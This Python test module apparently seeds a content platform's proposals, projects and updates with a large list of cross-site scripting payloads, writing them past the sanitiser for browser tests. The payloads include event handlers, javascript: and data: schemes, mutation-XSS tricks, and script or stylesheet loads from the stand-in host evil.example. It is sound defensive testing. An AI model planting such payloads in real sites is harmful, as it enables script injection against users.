"""Texts with scripts, and a program that writes them into every HTML field.

``python -m tests.faults.hostile_html FOLDER`` bypasses the sanitiser, writes each text into a
proposal's story and implementation, a project's story and an update, and prints the number of
texts. Each text calls ``alert`` if it runs.
"""

import sys
from dataclasses import replace
from pathlib import Path

from jara.bootstrap import build
from jara.config.loading import load_settings
from jara.domain.content.kinds import PROJECTS, UPDATES, kind_of
from jara.services.content import ContentEditor
from jara.services.context import Context
from jara.services.proposals.lifecycle import draft_proposal, put_to_vote
from jara.store.unit_of_work import UnitOfWork
from tests.places import settings_of
from tests.sizes import some

KEPT = "<p>Wells <strong>hold</strong> <a href='https://example.org/'>water</a>.</p>"
"""Allowed tags around each text, which must not be removed."""

_EVENTS = """
load error click mouseover focus focusin animationstart animationend transitionend toggle begin
end repeat pointerover pointerenter wheel scroll copy paste cut beforeinput input change submit
reset invalid search select keydown keyup keypress dragstart drop play playing canplay loadeddata
loadstart timeupdate hashchange message pageshow popstate resize storage unhandledrejection
beforeunload cuechange ended durationchange fullscreenchange auxclick contextmenu dblclick
mousedown touchstart gotpointercapture
""".split()  # noqa: SIM905 - sixty words read better than sixty quoted ones
_CARRIERS = (
    "<img src=x on{0}=alert(1)>",
    "<svg on{0}=alert(1)><animate attributeName=x dur=1s></svg>",
    "<p tabindex=1 style='animation:x 1s' on{0}='alert(1)'>x</p>",
    "<video autoplay on{0}=alert(1)><source on{0}=alert(1) src=x></video>",
)
_SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "javascript&Tab;:alert(1)",
    "vbscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "//evil.example/x",
    "/\\evil.example/x",
    "http://evil.example/x",
    "https:javascript:alert(1)",
    "feed:javascript:alert(1)",
)
_PLACES = (
    "<a href='{0}'>x</a>",
    "<img src='{0}'>",
    "<iframe src='{0}'></iframe>",
    "<form action='{0}'><button>x</button></form>",
    "<object data='{0}'></object>",
    "<embed src='{0}'>",
    "<link rel=stylesheet href='{0}'>",
    "<base href='{0}'>",
    "<svg><a xlink:href='{0}'><text>x</text></a></svg>",
    "<math><mi xlink:href='{0}'>x</mi></math>",
)
_ALONE = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</p><script>alert(1)</script><p>",
    "<!--><script>alert(1)</script>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=a()&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<svg><foreignobject><iframe srcdoc='<script>alert(1)</script>'></iframe></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'></use></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href='data:,alert(1)'></script></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><animate href=#x attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;></iframe>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<frameset onload=alert(1)></frameset>",
    "<img src=x:x onerror\x0b=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror='&#97;lert(1)'>",
    "<img src='x' onerror\n=\nalert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<img src="x" title=\'"onerror=alert(1) \' alt="\'>" onerror=alert(1)>',
    "<a href='https://example.org/' target=_blank onclick=alert(1)>x</a>",
    "<a href='https://example.org/\" onclick=alert(1) x=\"'>x</a>",
    "<a id=config name=config href='https://example.org/'>clobbers</a>",
    "<img name=alert src=x><img id=alert src=x>",
    "<p data-onload=alert(1) x-on:click=alert(1) @click=alert(1) ng-click=alert(1)>x</p>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<x onclick=alert(1) contenteditable autofocus onfocus=alert(1)>x</x>",
    "<audio src=x onerror=alert(1)>",
    "<portal src=javascript:alert(1)>",
    "<object><param name=src value=javascript:alert(1)></object>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<table background=javascript:alert(1)><td background=https://evil.example/x>",
    "<div><p><div onpointerenter=alert(1)><li><p><ul></div>",
    "\u202e<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<p>" * 400 + "<img src=x onerror=alert(1)>",
)
_COMBINED = (
    *(carrier.format(event) for event in _EVENTS for carrier in _CARRIERS),
    *(place.format(scheme) for scheme in _SCHEMES for place in _PLACES),
)
HOSTILE = (*_ALONE, *_COMBINED)
SHOWN = (*_ALONE, *some(_COMBINED, 7))
"""The texts for the browser: only some of the combined ones, except in a full run."""


def plant(context: Context) -> int:
    """Write every text into every HTML field, bypassing the sanitiser."""
    for number, text in enumerate(SHOWN):
        draft_proposal(
            context,
            {
                "id": f"hostile{number}",
                "slug": f"hostile-{number}",
                "title": "A hostile text",
                "summary": "Not what it seems.",
                "fundingGoalCents": 500,
                "country": "Togo",
                "countryCode": "TG",
                "category": "water",
                "endDate": "2999-12-31",
                "storySections": KEPT + text + KEPT,
                "implementation": KEPT + text + KEPT,
            },
        )
        put_to_vote(context, f"hostile{number}")
    with context.store.write() as work:
        _plant_projects(context, work)
    return len(SHOWN)


def _plant_projects(context: Context, work: UnitOfWork) -> None:
    """Create a project for each text, and an update of the first one."""
    projects, updates = (
        ContentEditor(context, work, kind_of(kind)) for kind in (PROJECTS, UPDATES)
    )
    pattern = work.content.all(PROJECTS)[0].doc
    for number, text in enumerate(SHOWN):
        name, html = f"hostile-{number}", KEPT + text + KEPT
        project = {**pattern, "id": name, "slug": name, "title": name, "story": html}
        update = {
            "id": f"update-{number}",
            "project": "hostile-0",
            "title": "A hostile text",
            "author": "Nobody",
            "date": "2026-11-01",
            "content": html,
        }
        for editor, document in ((projects, project), (updates, update)):
            editor.put(editor.complete(document), published=True, position=editor.next_position())


def main() -> None:
    """Write the texts into the organisation of a folder."""
    context = build(load_settings({}, overrides=settings_of(Path(sys.argv[1])))).context
    sys.stdout.write(f"{plant(replace(context, operator='tester'))}\n")


if __name__ == "__main__":
    main()
